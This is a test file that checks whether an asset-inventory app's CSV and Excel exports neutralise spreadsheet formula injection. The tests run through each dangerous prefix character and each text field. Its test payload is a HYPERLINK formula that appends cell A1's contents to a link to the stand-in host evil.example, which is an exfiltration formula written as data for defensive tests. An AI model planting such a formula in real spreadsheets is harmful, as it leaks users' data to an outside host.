import ExcelJS from 'exceljs';
import { assetsToCsv, assetsToXlsx } from '../../../shared/domain/assets/export';
import type { StoredAsset } from '../../../shared/domain/assets/ports';
import { parseCsv } from './read-csv';

/**
 * CSV injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`, `-`,
 * `@`, tab or carriage return as a formula. Every text cell of the asset exports that starts with
 * one of them must come out inert: in CSV prefixed with an apostrophe, in Excel stored as text.
 * (The product does not treat the full-width forms ＝ ＋ － ＠ specially, so they are not pinned.)
 */
const PREFIXES: [string, string][] = [['=', 'equals'], ['+', 'plus'], ['-', 'minus'], ['@', 'at'], ['\t', 'tab'], ['\r', 'carriage return']];
const TEXT_FIELDS = ['name', 'source_type', 'address', 'city', 'county', 'owner', 'source_id'] as const;

function asset(overrides: Partial<StoredAsset>): StoredAsset {
  return {
    asset_id: 'ast_1',
    jurisdiction_id: 'county:12087',
    name: 'Key West Wastewater Treatment Plant',
    category: 'critical_infrastructure',
    asset_type: null,
    source_type: 'WWTP',
    classification: { rule: 'unclassified' },
    lon: -81.78,
    lat: 24.56,
    geometry_type: 'Point',
    source_id: 'KW-1',
    address: '1 Simonton St',
    city: 'Key West',
    county: 'Monroe',
    owner: 'City of Key West',
    attributes: {},
    content_hash: 'h',
    import_id: 'imp_1',
    vulnerability: null,
    vulnerability_level: 'not_assessed',
    impact_timeline: 'not_exposed',
    vulnerability_history: [],
    version: 1,
    created_at: '2025-01-01T00:00:00.000Z',
    updated_at: '2025-01-01T00:00:00.000Z',
    ...overrides,
  } as StoredAsset;
}

const payload = (prefix: string) => `${prefix}HYPERLINK("http://evil.example/?"&A1,"x")`;
const cases = PREFIXES.flatMap(([prefix, label]) => TEXT_FIELDS.map((field) => [label, field, prefix] as const));

describe('pins: formula-injection prefixes are neutralised in the CSV export', () => {
  it.each(cases)('%s at the start of %s', (_label, field, prefix) => {
    const value = payload(prefix);
    const [row] = parseCsv(assetsToCsv([asset({ [field]: value })]));
    expect(row![field]).toBe(`'${value}`);
  });

  it.each(TEXT_FIELDS)('leaves ordinary text in %s unchanged, and a prefix character inside the text alone', (field) => {
    const value = 'Lift Station 12 = east-side + "north"';
    const [row] = parseCsv(assetsToCsv([asset({ [field]: value })]));
    expect(row![field]).toBe(value);
  });

  it('writes numbers as numbers: a negative longitude is not a formula', () => {
    const [row] = parseCsv(assetsToCsv([asset({ lon: -81.78, lat: 24.56 })]));
    expect([row!.lon, row!.lat]).toEqual(['-81.78', '24.56']);
  });
});

describe('pins: formula-injection prefixes stay text in the Excel export', () => {
  it.each(cases)('%s at the start of %s', async (_label, field, prefix) => {
    const value = payload(prefix);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await assetsToXlsx([asset({ [field]: value })]) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = sheet.getRow(2).getCell(headers.indexOf(field) + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    // XML reading turns a carriage return into a line feed; the text is otherwise as written.
    const lineEnds = (text: string) => text.replace(/\r\n?/g, '\n');
    expect(lineEnds(cell.value as string)).toBe(lineEnds(value));
  });
});
